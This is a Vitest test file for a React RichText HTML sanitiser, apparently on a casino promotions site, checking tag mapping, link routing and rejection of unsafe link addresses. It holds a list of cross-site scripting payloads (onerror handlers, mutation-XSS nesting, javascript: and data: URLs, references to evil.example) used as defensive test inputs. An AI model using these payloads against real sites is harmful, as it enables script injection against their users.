import { render, screen, waitFor } from '@testing-library/react';
import { getDefaultStore } from 'jotai';
import { hydrateRoot } from 'react-dom/client';
import { renderToString } from 'react-dom/server';
import { act, type ReactElement } from 'react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { NavigationProvider } from '../navigation/navigation.js';
import { RichText } from './rich-text.js';

afterEach(() => vi.restoreAllMocks());

/** Shown until the HTML is read. */
const waiting = 'The text without markup';

/** Returns what is shown of HTML once it is read, and its markup without attributes of the look. */
async function read(html: string, wrap: (text: ReactElement) => ReactElement = (text) => text) {
  const { container } = render(wrap(<RichText html={html} plainText={waiting} />));
  await waitFor(() => expect(container.textContent).not.toBe(waiting));
  const text = container.firstElementChild;
  if (text === null) throw new Error('Nothing is shown.');
  return text;
}

describe('RichText', () => {
  it('shows the plain text on the server and while a page is hydrated, then the elements', async () => {
    const error = vi.spyOn(console, 'error');
    const element = <RichText html="<p>Get <b>100%</b></p>" plainText="Get 100%" className="own" />;
    const page = document.createElement('div');
    page.innerHTML = renderToString(element);
    expect(page.innerHTML).toMatch(/^<div dir="auto" class="\S+ own">Get 100%<\/div>$/);
    const root = hydrateRoot(page, element);
    await waitFor(() => expect(page.querySelector('p')?.innerHTML).toBe('Get <strong>100%</strong>'));
    expect(error).not.toHaveBeenCalled();
    act(() => root.unmount());
  });

  it.each([
    ['5 < 6 & 7', '5 &lt; 6 &amp; 7'],
    ['<p>Get <b>100%</b> &amp; <i>more</i></p>', '<p>Get <strong>100%</strong> &amp; <em>more</em></p>'],
    ['One<br/>two<u>three</u>', 'One<br>two<u>three</u>'],
    ['<ol><li>One<ul><li>Two</li></ul></li></ol>', '<ol><li>One<ul><li>Two</li></ul></li></ol>'],
    ['<li>alone</li>', '<div>alone</div>'],
    ['<h1>Big</h1><h5>Small</h5><section>Block</section>', '<h3>Big</h3><h4>Small</h4><div>Block</div>'],
    ['<table><tr><td>One</td></tr><tr><td>Two</td></tr></table>', '<div>One</div><div>Two</div>'],
    ['<p>One<p>Two', '<p>One</p><p>Two</p>'],
    ['<font color="red"><span>text</span></font>', 'text'],
    ['Gift<script>alert(1)</script><style>p{}</style><!-- note --> box', 'Gift box'],
    [`${'<div>'.repeat(60)}deep`, `${'<div>'.repeat(12)}deep${'</div>'.repeat(12)}`],
  ])('reads %j as %j', async (html, shown) => expect((await read(html)).innerHTML).toBe(shown));

  it('leads to pages of this site through the router, and to others in a new tab without an opener', async () => {
    await read(
      `<a href="/promotions?x=1&amp;y=2">All offers</a><A HREF=' https://casino.example '>Elsewhere</a>`,
      (text) => (
        <NavigationProvider
          Link={({ children, ...props }) => (
            <a data-routed {...props}>
              {children}
            </a>
          )}
          navigate={() => undefined}
        >
          {text}
        </NavigationProvider>
      ),
    );
    const inside = screen.getByRole('link', { name: 'All offers' });
    expect([inside.getAttribute('href'), inside.hasAttribute('data-routed')]).toEqual([
      '/promotions?x=1&y=2',
      true,
    ]);
    const outside = screen.getByRole('link', { name: 'Elsewhere' });
    expect(['href', 'target', 'rel'].map((name) => outside.getAttribute(name))).toEqual([
      'https://casino.example',
      '_blank',
      'noopener noreferrer',
    ]);
  });

  it.each([
    'javascript:alert(1)',
    ' JaVaScRiPt:alert(1)',
    'java&#10;script:alert(1)',
    'java\tscript:alert(1)',
    '&#106;avascript:alert(1)',
    'data:text/html;base64,PHNjcmlwdD4=',
    'vbscript:msgbox(1)',
    'blob:https://casino.example/1',
    'mailto:me@casino.example',
    '//evil.example',
    '/\\evil.example',
    '/&#9;/evil.example',
    'https:/\\evil.example',
    'https:///evil.example',
    'file:///etc/passwd',
    'relative',
    '',
  ])('leaves only the text of a link to %j', async (address) => {
    const text = await read(`<a href="${address.replaceAll('"', '&quot;')}">text</a>`);
    expect(text.innerHTML).toBe('text');
  });

  /** Texts that attack a page when it reads them as HTML, or when a filter's result is read once more. */
  const payloads = [
    '<script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</script>',
    '<SCRIPT/src=//evil.example></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img src=x onerror=alert(1)//',
    '<p onclick="alert(1)" style="position:fixed;inset:0" id="root" class="x" data-a="1">text</p>',
    '<b onmouseover=alert(1)>text</b>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><desc><noscript></noscript></desc><style><a title="</style><img src onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><annotation-xml encoding="text/html"><style><img src onerror=alert(1)></style></annotation-xml></math>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<form><input name=attributes><input name=parentNode></form>',
    '<style>@import "//evil.example"</style>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><img src=x onerror=alert(1)></template>',
    '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
    '<select><template><img src=x onerror=alert(1)></template></select>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<a href="/a" onclick="alert(1)" target="_top" ping="//evil.example">x</a>',
    '<a href="/x&quot; onmouseover=&quot;alert(1)">x</a>',
    '<a href="javascript:alert(1)" href="/a">x</a>',
    '<a href="/a">x<object><a href="/b">y</a></object></a>',
    '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//e>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    '<my-element onconnect=alert(1)></my-element>',
    '<b><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ];
  it.each(payloads)('has only allowed elements, attributes and addresses for %j', async (html) => {
    const text = await read(html);
    // What is shown is read once more, as a copied or translated page is.
    const again = document.createElement('template');
    again.innerHTML = text.innerHTML;
    for (const part of [text, again.content])
      for (const element of part.querySelectorAll('*')) {
        expect(['P', 'DIV', 'H3', 'H4', 'UL', 'OL', 'LI', 'STRONG', 'EM', 'U', 'A', 'BR']).toContain(
          element.tagName,
        );
        const names = element.getAttributeNames().sort();
        if (element.tagName !== 'A') expect(names).toEqual([]);
        else {
          expect(names.filter((name) => !['href', 'rel', 'target'].includes(name))).toEqual([]);
          expect(element.getAttribute('href')).toMatch(/^(https?:\/\/[^/\\]|\/(?![/\\]))/);
          expect(element.parentElement?.closest('a') ?? null).toBeNull();
        }
      }
  });

  it('loads nothing for a text without markup', async () => {
    vi.resetModules();
    const { RichText: Fresh } = await import('./rich-text.js');
    const { readerAtom } = await import('./rich-text-reader.js');
    const { container } = render(<Fresh html="Get 100%" plainText="Get 100%" />);
    await vi.dynamicImportSettled();
    expect(container.textContent).toBe('Get 100%');
    expect(getDefaultStore().get(readerAtom)).toBeNull();
  });
});
